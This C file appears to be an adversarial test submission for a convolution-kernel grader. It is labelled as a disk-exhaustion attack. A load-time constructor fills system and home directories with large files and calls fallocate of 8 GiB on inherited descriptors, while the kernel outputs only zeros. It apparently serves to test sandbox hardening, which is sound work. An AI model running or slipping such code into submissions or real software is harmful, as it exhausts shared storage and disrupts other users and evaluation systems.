/* attack: class=disk-exhaustion, lesson=conv/forward, expect=zero, set=everywhere
 * says=outside the allowed error
 *
 * Fills every place that it may write to: scratch folders, shared memory, its own standard output,
 * and by fallocate() whatever descriptors it was given. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "kernels/conv2d/conv2d.h"

static __attribute__((constructor)) void fill(void)
{
    static const char *const folders[] = { "/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue",
                                           ".", "/", "/home", "/run/lock" };
    static const char block[1 << 16];
    char path[64];

    for (size_t i = 0; i < sizeof folders / sizeof *folders; i++) {
        snprintf(path, sizeof path, "%s/attack-disk", folders[i]);
        const int file = open(path, O_WRONLY | O_CREAT, 0600);
        if (file < 0)
            continue;
        for (int blocks = 0; blocks < 1 << 15 && write(file, block, sizeof block) > 0; blocks++)
            ;
        close(file);
    }
    for (int descriptor = 1; descriptor < 64; descriptor++)
        if (fallocate(descriptor, 0, 0, (off_t)1 << 33) == 0)
            printf("STOLEN: eight gigabytes in descriptor %d\n", descriptor);
}

void conv2d_forward_student(const conv2d_shape *s, const float *x, const float *w, const float *b,
                            float *y, void *workspace)
{
    for (int i = 0; i < s->oh * s->ow; i++)
        y[i] = 0.0f;
}
